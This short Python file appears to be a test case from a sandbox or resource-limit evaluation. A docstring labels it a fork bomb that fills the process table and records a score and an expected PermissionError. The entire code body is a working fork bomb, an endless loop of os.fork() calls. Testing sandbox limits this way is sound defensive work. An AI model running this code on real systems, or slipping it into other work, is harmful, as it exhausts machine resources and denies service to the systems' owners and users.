"""Processes that start processes.

class: resources, fork bomb
tries: fills the machine's table of processes
outcome: total 4, scaled 6
says: PermissionError
"""

# %% first
import os

while True:
    os.fork()
